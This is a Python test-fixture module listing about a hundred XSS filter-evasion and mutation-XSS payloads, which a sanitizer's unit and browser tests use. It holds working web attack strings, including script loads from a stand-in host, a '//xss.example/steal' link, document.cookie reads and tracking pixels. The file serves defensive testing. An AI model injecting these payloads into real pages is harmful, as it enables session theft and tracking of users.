"""Well-known XSS payloads, after the OWASP XSS filter evasion cheat sheet and mutation-XSS research.

Shared by the sanitizer's unit tests and the browser tests (which store them as comments and check that
nothing runs in the agent console). Each one would run script, load a remote resource, or break out of
its context in a page that rendered it unsanitized. Keep adding: every bypass found anywhere belongs here.
"""

XSS_PAYLOADS: list[str] = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script/xss src=https://xss.example/xss.js></script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<SCRIPT SRC=//xss.example/.j>",
    '<script>alert("unclosed")',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    '"><script>alert(document.cookie)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<BODY ONLOAD=alert(1)>",
    "<body onpageshow=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<p onclick="alert(1)" title="x">click</p>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<span class="mention" data-agent-id="1" onmouseover="alert(1)">@agent</span>',
    # javascript: and other dangerous URLs in links, with obfuscation.
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
        '&#0000116&#0000058alert(1)">x</a>'
    ),
    (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A'
        '&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>'
    ),
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="java&#x0A;script:alert(1)">click</a>',
    '<a href="java&#x0D;script:alert(1)">click</a>',
    '<a href=" &#14;  javascript:alert(1)">click</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="livescript:alert(1)">click</a>',
    '<a href="//xss.example/steal">relative to scheme</a>',
    '<a href="/api/v1/tickets?delete=all">relative</a>',
    '<a href="https://ok.example" onclick="alert(1)" target="_top" rel="opener">x</a>',
    '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
    # Frames, objects, embeds, forms and friends.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<object data="javascript:alert(1)"></object>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    (
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9h'
        'ZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml"></EMBED>'
    ),
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<isindex type=image src=1 onerror=alert(1)>",
    # Head elements.
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<BASE HREF="javascript:alert(1);//">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<link rel="import" href="https://xss.example/x.html">',
    # CSS.
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
    '<DIV STYLE="background-image: url(javascript:alert(1))">',
    '<DIV STYLE="width: expression(alert(1));">',
    '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">',
    '<span style="behavior: url(xss.htc);">x</span>',
    '<p style="background:url(https://tracker.example/pixel.gif)">tracked</p>',
    # Remote resources (tracking pixels).
    '<img src="https://tracker.example/pixel.gif?who=agent">',
    '<picture><source srcset="https://tracker.example/p.png"><img src="x"></picture>',
    '<table background="https://tracker.example/p.gif"><tr><td>x</td></tr></table>',
    # Namespace confusion and mutation XSS (parser differentials).
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'
    ),
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>'
        "</annotation-xml></math>"
    ),
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # Attribute breakouts: quotes, backticks, unclosed tags.
    '<a title="x" onmouseover="alert(1)" "">x</a>',
    "<a title='x'onmouseover=alert(1)>x</a>",
    "<a title=`x`onmouseover=alert(1)>x</a>",
    "<a href=https://ok.example/ onmouseover=alert(1)//>x</a>",
    '<a href="https://ok.example/"onmouseover="alert(1)">x</a>',
    "<a/href=javascript:alert(1)>x</a>",
    "<img src=x onerror=alert(1)",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav\0ascript:alert(1);">',
    '<a href="javas\x00cript:alert(1)">x</a>',
    # Fullwidth brackets: harmless unless something NFKC-normalizes the text after cleaning.
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Plain text that must stay text.
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "1 < 2 && alert(1) > 0",
]
